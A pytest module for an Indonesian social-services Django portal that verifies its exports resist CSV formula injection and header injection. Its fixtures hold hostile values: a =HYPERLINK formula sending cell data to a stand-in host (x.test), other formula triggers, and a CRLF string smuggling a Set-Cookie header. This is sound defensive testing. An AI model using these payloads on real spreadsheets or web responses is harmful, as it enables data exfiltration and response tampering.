"""Every file the portal hands out is safe to open (issue 22, findings 4 and 11).

Text people type or import (names, addresses, notes, area names, DTSEN records, headers) is
seeded with values a spreadsheet would run as a formula, then every export the URL resolver
exposes and every Django admin export is downloaded as a persona allowed to use it. No cell
may be a formula or start like one, the payload must still be readable (behind an
apostrophe), and the download name must be a clean RFC 6266 header.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable, Iterator

import pytest
from django.contrib import admin as django_admin
from django.forms import BooleanField
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook
from pypdf import PdfReader

from dinsos import ekspor
from dinsos.models import AuditEvent, User, Wilayah
from dtsen import services as dtsen_services
from dtsen.models import EksporSiks, Jenis, PemetaanKolom, Rekonsiliasi, Temuan
from kpm.models import Anggota
from laporan import services as laporan_services
from p2k2.models import Pertemuan, Sesi
from pemutakhiran.models import BatchSiks
from pemutakhiran.models import Jenis as JenisUsulan
from pemutakhiran.models import Status as StatusUsulan
from pendamping.models import KategoriPmks, KlienPmks
from tests.dtsen.conftest import HEADERS, muat, write_csv  # noqa: F401  (muat: a fixture)
from tests.dtsen.rekonsiliasi_data import Orang, dtsen_row, jalankan, keluarga
from tests.factories import AnggotaFactory, keluarga_with_pengurus
from tests.p2k2.conftest import buat_kelompok, buat_pertemuan, catat, kurikulum  # noqa: F401
from tests.pemutakhiran.helpers import buat as buat_usulan
from tests.pemutakhiran.helpers import sampai
from tests.pendamping.conftest import buat_profil
from tests.pengaduan.helpers import buat_pengaduan

pytestmark = pytest.mark.django_db

# One payload per formula trigger (OWASP "CSV Injection"), each in a field people control.
LINK = '=HYPERLINK("http://x.test/?d="&A1,"klik")'  # names: DTSEN, KPM, pendamping, headers
PLUS = "+62 812 3456 7890"  # a verification note
MINUS = "-1+1 Sesi kebersihan"  # a curriculum session title
AT = "@SUM(1+1) Hadimulyo"  # a kelurahan name
TAB = "\t=1+1 Gang Mawar"  # an address
CR = "\r=1+1 Balai"  # a meeting place
# A kecamatan name that once broke Content-Disposition (") and failed the response (CRLF).
KECAMATAN = '-Metro "Pusat"\r\nSet-Cookie: x=1'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ACUAN_SR = datetime.date(2026, 7, 1)
JUNI = datetime.date(2025, 6, 30)
MARET = datetime.date(2025, 3, 1)  # the month of the P2K2 meetings and the complaint
DESEMBER = datetime.date(2025, 12, 1)  # the SIKS-NG proposal batch (tests/pemutakhiran)
SEPTEMBER = datetime.date(2025, 9, 30)
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# The admin names its files after the model ("Wilayah-2026-01-31.csv"): capitals allowed.
SAFE_DISPOSITION = re.compile(
    r'attachment; filename="[A-Za-z0-9][A-Za-z0-9_-]*\.(xlsx|csv|json|pdf)"'
)


def _escaped(payload: str) -> str:
    """How a payload must read in a cell: behind an apostrophe; compared without whitespace
    and case, since some exports upper-case names and XML turns CR into LF."""
    return _key("'" + payload)


def _key(text: str) -> str:
    return re.sub(r"\s", "", text).casefold()


# --- The world: every kind of user-controlled text, with formula payloads --------------------
@pytest.fixture
def dunia(
    muat,  # noqa: F811
    kurikulum,  # noqa: F811
    tmp_path,
    kota_metro,
    admin,
    operator,
    koordinator_metro_pusat,
    pendamping_hadimulyo,
) -> dict[str, object]:
    hadimulyo = kota_metro["Hadimulyo Barat"]
    # DTSEN: every payload as a person's name, one bad desil under a header starting with "="
    people = [Orang(70 + i, nama, kk=70 + i) for i, nama in enumerate((LINK, PLUS, AT, TAB, CR))]
    headers = [*HEADERS[:-1], "=desil_nasional"]
    juni_rows = [dtsen_row(o, desil=3) for o in people]
    bad = dtsen_row(Orang(79, "Warga Salah", kk=79), desil="11")
    juni = muat(write_csv(tmp_path / "juni.csv", [*juni_rows, bad], headers=headers), tanggal=JUNI)
    dtsen_services.snapshot_apply(snapshot=juni, applied_by=admin)
    september_rows = [dtsen_row(o, desil=8) for o in people]
    september = muat(write_csv(tmp_path / "sept.csv", september_rows), tanggal=SEPTEMBER)
    dtsen_services.snapshot_apply(snapshot=september, applied_by=admin)
    # KPM: the DTSEN person named LINK is a PKH family above the cut-off → a SIKS-NG finding
    keluarga(people[0], kelurahan=hadimulyo, pendamping=pendamping_hadimulyo)
    jalankan(Rekonsiliasi.Jenis.KPM_DTSEN, kota_metro["Kota Metro"], operator)
    for temuan in Temuan.objects.filter(kategori="desil_di_atas_pkh"):
        dtsen_services.temuan_follow_up(
            temuan=temuan, user=pendamping_hadimulyo, tahap=Temuan.Tahap.DIVERIFIKASI,
            catatan=PLUS, bukti=None, jenis_bukti="", tipe_bukti="",
        )  # fmt: skip
        dtsen_services.temuan_follow_up(
            temuan=temuan, user=operator, tahap=Temuan.Tahap.DIPUTUSKAN,
            keputusan="usul_nonaktif", catatan="Setuju.",
        )  # fmt: skip
    # Sekolah Rakyat: a desil-1 family with a 13-year-old named LINK, address TAB
    sr = keluarga_with_pengurus(
        kelurahan=hadimulyo, pendamping=pendamping_hadimulyo, desil=1, alamat=TAB,
        desil_per=datetime.date(2026, 4, 1), pengurus_nama=PLUS,
    )  # fmt: skip
    anak = AnggotaFactory(
        keluarga=sr, nama=LINK, tanggal_lahir=datetime.date(2012, 9, 9), jenis_kelamin="L",
        hubungan=Anggota.Hubungan.ANAK,
    )  # fmt: skip
    # P2K2: a meeting of families whose pengurus are named with payloads, held at CR
    families = [
        keluarga_with_pengurus(
            kelurahan=hadimulyo, pendamping=pendamping_hadimulyo, pengurus_nama=n
        )
        for n in (LINK, AT)
    ]
    pertemuan = buat_pertemuan(buat_kelompok(pendamping_hadimulyo, hadimulyo, families))
    Pertemuan.objects.filter(pk=pertemuan.pk).update(tempat=CR)
    catat(pertemuan, dict.fromkeys(families, "hadir"))
    # … then three meetings both families miss: a run of alfa in the recap
    for day in (17, 24, 31):
        later = buat_pertemuan(pertemuan.kelompok, datetime.date(2025, 3, day))
        catat(later, dict.fromkeys(families, "alfa"))
    # Pengaduan: a complaint from Hadimulyo in March (the recap names its kecamatan)
    buat_pengaduan(oleh=operator, kelurahan=hadimulyo, tanggal_terima=datetime.date(2025, 3, 3))
    # Pemutakhiran: the DTSEN person named LINK proposed for deactivation, approved for December
    usulan = buat_usulan(oleh=operator, kelurahan=hadimulyo, nik=people[0].nik, nama=LINK)
    sampai(
        usulan, StatusUsulan.DISETUJUI,
        pemeriksa=operator, petugas=pendamping_hadimulyo, pengesah=admin,
    )  # fmt: skip
    # Pendamping: a name typed in the admin
    profil = buat_profil(None, nama=LINK, wilayah=[hadimulyo])
    # A PMKS client (issue 20) named LINK, living at TAB
    KlienPmks.objects.create(
        nama=LINK, alamat=TAB, jenis_kelamin="L", kelurahan=hadimulyo, pendamping=profil,
        kategori=KategoriPmks.objects.get(kode="lansia_terlantar"), dicatat_oleh=operator,
    )  # fmt: skip
    # Admin reference tables
    Sesi.objects.filter(pk=pertemuan.sesi_id).update(judul=MINUS)
    PemetaanKolom.objects.create(jenis=Jenis.DTSEN, header=LINK, field="nama", created_by=admin)
    # Area names, renamed last (the importers above look areas up by code)
    Wilayah.objects.filter(pk=hadimulyo.pk).update(nama=AT)
    Wilayah.objects.filter(pk=kota_metro["Metro Pusat"].pk).update(nama=KECAMATAN)
    # The rakor report of March (issue 19), built after the renames: its tables name the
    # kecamatan and, in the workforce section, the pendamping.
    laporan = laporan_services.laporan_proses(
        laporan=laporan_services.laporan_minta(
            wilayah=kota_metro["Kota Metro"], bulan=MARET, oleh=admin
        )
    )
    return {
        "laporan": laporan,
        "juni": juni,
        "september": september,
        "metro_pusat": kota_metro["Metro Pusat"],
        "anak": anak,
        "pertemuan": pertemuan,
        "profil": profil,
    }


# --- Each export, as a persona allowed to use it ---------------------------------------------
Download = Callable[[Client, dict[str, object], dict[str, User]], object]


def _login(client: Client, user: User) -> Client:
    client.force_login(user)
    return client


def _siks_file(client, d, p):
    return _login(client, p["operator"]).get(
        reverse("dtsen:siks-download", args=[EksporSiks.objects.get().pk])
    )


def _siks_export(client, d, p):
    response = _login(client, p["operator"]).post(reverse("dtsen:siks-export", args=["nonaktif"]))
    assert response.status_code == 302
    return _siks_file(client, d, p)


def _batch_ekspor(client, d, p):
    return _login(client, p["operator"]).post(
        reverse("pemutakhiran:batch-ekspor"),
        {"bulan": f"{DESEMBER:%Y-%m}", "jenis": JenisUsulan.PENONAKTIFAN},
    )


def _batch_unduh(client, d, p):
    if not BatchSiks.objects.exists():
        assert _batch_ekspor(Client(), d, p).status_code == 200
    return _login(client, p["operator"]).get(
        reverse("pemutakhiran:batch-unduh", args=[BatchSiks.objects.get().pk])
    )


# name → (download, payloads that must be readable in it)
EXPORTS: dict[str, tuple[Download, tuple[str, ...]]] = {
    "verifikasi:sekolah-rakyat-ekspor": (
        lambda client, d, p: _login(client, p["operator"]).get(
            reverse("verifikasi:sekolah-rakyat-ekspor"), {"tanggal_acuan": ACUAN_SR.isoformat()}
        ),
        (LINK, PLUS, TAB, AT, KECAMATAN),
    ),
    "kpm:anggota-data-subjek": (
        lambda client, d, p: _login(client, p["admin"]).post(
            reverse("kpm:anggota-data-subjek", args=[d["anak"].pk]),
            {"alasan": "Permintaan yang bersangkutan"},
        ),
        (),  # JSON: no spreadsheet reads it; checked for its download name only
    ),
    "pemrosesan-xlsx": (
        lambda client, d, p: _login(client, p["koordinator"]).get(reverse("pemrosesan-xlsx")),
        (),  # declarations in the code: no user-typed text
    ),
    "pendamping:pendamping-laporan-xlsx": (
        lambda client, d, p: _login(client, p["koordinator"]).get(
            reverse("pendamping:pendamping-laporan-xlsx", args=[d["profil"].pk]),
            {"tahun": 2025, "bulan": 3},
        ),
        (),  # the name only appears inside the titles
    ),
    "pendamping:perbandingan-xlsx": (
        lambda client, d, p: _login(client, p["koordinator"]).get(
            reverse("pendamping:perbandingan-xlsx"), {"tahun": 2025, "bulan": 3}
        ),
        (LINK,),
    ),
    "pendamping:klien-xlsx": (
        lambda client, d, p: _login(client, p["operator"]).get(reverse("pendamping:klien-xlsx")),
        (LINK, TAB),
    ),
    "pendamping:evaluasi-xlsx": (
        lambda client, d, p: _login(client, p["koordinator"]).get(
            reverse("pendamping:evaluasi-xlsx"), {"tahun": 2025}
        ),
        (LINK,),
    ),
    "dtsen:snapshot-report": (
        lambda client, d, p: _login(client, p["admin"]).get(
            reverse("dtsen:snapshot-report", args=[d["juni"].pk])
        ),
        ("=desil_nasional",),
    ),
    "dtsen:perubahan-desil-export": (
        lambda client, d, p: _login(client, p["operator"]).post(
            reverse(
                "dtsen:perubahan-desil-export",
                args=[d["juni"].pk, d["september"].pk, d["metro_pusat"].pk],
            )
        ),
        (LINK, PLUS, AT, TAB, CR),
    ),
    "dtsen:siks-export": (_siks_export, (LINK, PLUS, AT, KECAMATAN)),
    "dtsen:siks-download": (_siks_file, (LINK, PLUS, AT, KECAMATAN)),
    "p2k2:siks-ng": (
        lambda client, d, p: _login(client, p["pendamping"]).get(
            reverse("p2k2:siks-ng", args=[d["pertemuan"].pk])
        ),
        (LINK, AT, CR),
    ),
    "p2k2:rekap-alfa": (
        lambda client, d, p: _login(client, p["operator"]).get(
            reverse("p2k2:rekap-alfa"), {"format": "xlsx"}
        ),
        (LINK, AT),
    ),
    "pengaduan:rekap-xlsx": (
        lambda client, d, p: _login(client, p["operator"]).get(
            reverse("pengaduan:rekap-xlsx"), {"bulan": f"{MARET:%Y-%m}"}
        ),
        (KECAMATAN,),
    ),
    "pemutakhiran:batch-ekspor": (_batch_ekspor, (LINK, AT, KECAMATAN)),
    "pemutakhiran:batch-unduh": (_batch_unduh, (LINK, AT, KECAMATAN)),
    # The rakor report (issue 19): the stored files as the admin downloads them (with the
    # workforce section), and the operator's, made from the same frozen figures without it.
    "laporan:laporan-xlsx": (
        lambda client, d, p: _login(client, p["admin"]).get(
            reverse("laporan:laporan-xlsx", args=[d["laporan"].pk])
        ),
        (KECAMATAN,),
    ),
    "laporan:laporan-pdf": (
        lambda client, d, p: _login(client, p["operator"]).get(
            reverse("laporan:laporan-pdf", args=[d["laporan"].pk])
        ),
        (),  # a PDF runs no formula; its text is checked for identifiers below
    ),
}
# Pages that hand out a file on `?format=xlsx`: their names do not say so.
EXPORTS_BY_QUERY = {"p2k2:rekap-alfa"}
# Names the discovery pattern matches that are pages, not files.
NOT_EXPORTS = {
    "dtsen:siks-list": "the page that lists SIKS-NG exports",
    "laporan:laporan-list": "the page that lists stored rakor reports",
    "laporan:laporan-create": "asks for a report (POST), returns no file",
    "laporan:laporan-detail": "the report page",
    "laporan:laporan-progress": "the building progress fragment",
    "pendamping:laporan-bulanan-kirim": "the monthly report form (RHK 7)",
    "pendamping:laporan-bulanan-list": "the list of monthly reports (RHK 7)",
}
# Admin exports: model → payloads readable in each format's file.
ADMIN_EXPORTS: dict[str, tuple[str, ...]] = {
    "dinsos.wilayah": (AT, KECAMATAN),
    "kpm.keluarga": (LINK, PLUS, TAB, AT, KECAMATAN),
    "p2k2.sesi": (MINUS,),
    "dtsen.pemetaankolom": (LINK,),
}
EXPORT_NAME = re.compile(r"ekspor|export|unduh|download|xlsx|csv|laporan|report|siks|data-subjek")


def _url_names(patterns: list[object], namespace: str = "") -> Iterator[str]:
    for p in patterns:
        if isinstance(p, URLResolver):
            if p.namespace == "admin":
                continue  # walked through the admin's registry below
            inner = f"{namespace}{p.namespace}:" if p.namespace else namespace
            yield from _url_names(p.url_patterns, inner)
        elif isinstance(p, URLPattern) and p.name:
            yield namespace + p.name


# --- Reading what came back -------------------------------------------------------------------
def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _cells(response) -> list[tuple[str, object, str]]:
    """(where, value, type) of every cell in an XLSX or CSV download."""
    content_type = response["Content-Type"]
    body = _body(response)
    if content_type.startswith(XLSX_TYPE):
        workbook = load_workbook(io.BytesIO(body))
        return [
            (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
    if content_type.startswith("text/csv"):
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
        return [
            (f"{r + 1}:{c + 1}", v, "s") for r, row in enumerate(rows) for c, v in enumerate(row)
        ]
    if content_type.startswith(("application/json", "application/pdf")):
        return []  # no spreadsheet opens them; a PDF's text is read by _pdf_text
    raise ValueError(f"a download no spreadsheet check covers: {content_type}")


def _problems(response, payloads: tuple[str, ...]) -> list[str]:
    problems = []
    if response.status_code != 200 or "Content-Disposition" not in response:
        return [f"status {response.status_code}, {response['Content-Type']}"]
    disposition = response.get("Content-Disposition", "")
    if not SAFE_DISPOSITION.fullmatch(disposition):
        problems.append(f"Content-Disposition {disposition!r}")
    try:
        cells = _cells(response)
    except ValueError as e:
        return [*problems, str(e)]
    for where, value, data_type in cells:
        if data_type == "f":
            problems.append(f"{where} is a formula: {value!r}")
        elif isinstance(value, str) and (
            value.startswith(TRIGGERS) or value.lstrip().startswith(TRIGGERS)
        ):
            problems.append(f"{where} starts like a formula: {value!r}")
    readable = {_key(value) for _, value, _ in cells if isinstance(value, str)}
    problems += [f"{p!r} not readable" for p in payloads if _escaped(p) not in readable]
    return problems


# --- Tests ------------------------------------------------------------------------------------
def test_no_export_writes_a_formula_and_every_payload_stays_readable(
    client, dunia, admin, operator, koordinator_metro_pusat, pendamping_hadimulyo
):
    personas = {
        "admin": admin,
        "operator": operator,
        "koordinator": koordinator_metro_pusat,
        "pendamping": pendamping_hadimulyo,
    }
    # given: every export the URL resolver and the admin expose has its entry above
    found = {n for n in _url_names(get_resolver().url_patterns) if EXPORT_NAME.search(n)}
    assert found | EXPORTS_BY_QUERY == set(EXPORTS) | set(NOT_EXPORTS)
    exporting = {
        model._meta.label_lower
        for model, model_admin in django_admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    }
    assert exporting == set(ADMIN_EXPORTS)
    problems: dict[str, list[str]] = {}
    # when: each is downloaded
    for name, (download, payloads) in EXPORTS.items():
        found = _problems(download(Client(), dunia, personas), payloads)
        if found:
            problems[name] = found
    # and every admin export, in each format it offers
    for model, model_admin in django_admin.site._registry.items():
        label = model._meta.label_lower
        if label not in ADMIN_EXPORTS:
            continue
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        admin_client = _login(Client(), admin)
        form = admin_client.get(url).context["form"]
        every_field = {n: "on" for n, f in form.fields.items() if isinstance(f, BooleanField)}
        for index, fmt in enumerate(model_admin.get_export_formats()):
            data = {"format": str(index), "resource": "0", **every_field}
            response = admin_client.post(url, data)
            found = _problems(response, ADMIN_EXPORTS[label])
            if found:
                problems[f"admin {label} {fmt.__name__}"] = found
    # then
    assert problems == {}


def test_a_kecamatan_name_with_a_quote_and_crlf_gives_a_clean_download_name(
    client, dunia, operator
):
    # given: Metro Pusat renamed to KECAMATAN (a quote, CRLF and a header of its own)
    client.force_login(operator)
    args = [dunia["juni"].pk, dunia["september"].pk, dunia["metro_pusat"].pk]
    # when
    response = client.post(reverse("dtsen:perubahan-desil-export", args=args))
    # then
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="perubahan-desil-metro-pusat-set-cookie-x1-2025-09-30.xlsx"'
    )
    assert "Set-Cookie" not in response.headers
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),  # after leading spaces too
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("Siti -=- Aminah", "Siti -=- Aminah"),  # only the start counts
        ("Siti\x0bAminah", "SitiAminah"),  # a control character XLSX cannot hold
        (-5, -5),  # numbers stay numbers
        (1872015004990007, "1872015004990007"),  # Excel would round a 16-digit number
        (None, None),
    ],
)
def test_one_cell_as_every_export_writes_it(value, written):
    # when: a one-row CSV and XLSX
    content = ekspor.xlsx_bytes([[value]], title="Uji", header=["Nilai"])
    text = ekspor.csv_text([[value]])
    # then
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.value, cell.data_type != "f") == (written, True)
    assert text.startswith("\ufeff")  # UTF-8 as Excel recognises it
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows == [["" if written is None else str(written)]]


def test_identifiers_are_text_cells_in_the_text_format():
    content = ekspor.xlsx_bytes([["1872015004990007", "001", "18.72.01"]], title="U", header="ABC")
    row = load_workbook(io.BytesIO(content)).active[2]
    assert [(c.value, c.data_type, c.number_format) for c in row] == [
        ("1872015004990007", "s", "@"),
        ("001", "s", "@"),
        ("18.72.01", "s", "@"),
    ]


def test_rakor_report_files_are_audited_and_carry_no_identifier(
    dunia, admin, operator, koordinator_metro_pusat, pendamping_hadimulyo
):
    # given: the March report of the world above (aggregates; names only of pendamping)
    personas = {"admin": admin, "operator": operator}
    laporan = dunia["laporan"]
    identitas = re.compile(r"(?<!\d)\d{16}(?!\d)")  # a full NIK or No KK
    for name in ("laporan:laporan-xlsx", "laporan:laporan-pdf"):
        for persona, user in personas.items():
            sebelum = AuditEvent.objects.filter(
                action=AuditEvent.Action.EXPORT, object_id=str(laporan.pk), user=user
            ).count()
            # when: each persona downloads the file
            url = reverse(name, args=[laporan.pk])
            response = _login(Client(), user).get(url)
            # then: it is recorded as an export of that report, by that user
            assert response.status_code == 200, (name, persona)
            assert (
                AuditEvent.objects.filter(
                    action=AuditEvent.Action.EXPORT,
                    object_type="laporan.laporanbulanan",
                    object_id=str(laporan.pk),
                    user=user,
                ).count()
                == sebelum + 1
            ), (name, persona)
            # and no full identifier is in it, whoever downloads it
            body = _body(response)
            if name.endswith("pdf"):
                text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(body)).pages)
                assert text.startswith("Dinas Sosial") or "Laporan Rakor" in text
            else:
                workbook = load_workbook(io.BytesIO(body))
                text = " ".join(
                    str(v) for sheet in workbook for row in sheet.iter_rows(values_only=True)
                    for v in row if v is not None
                )  # fmt: skip
            assert not identitas.search(text), (name, persona)
            assert (persona == "admin") == ("9. SDM PSKS" in text), (name, persona)
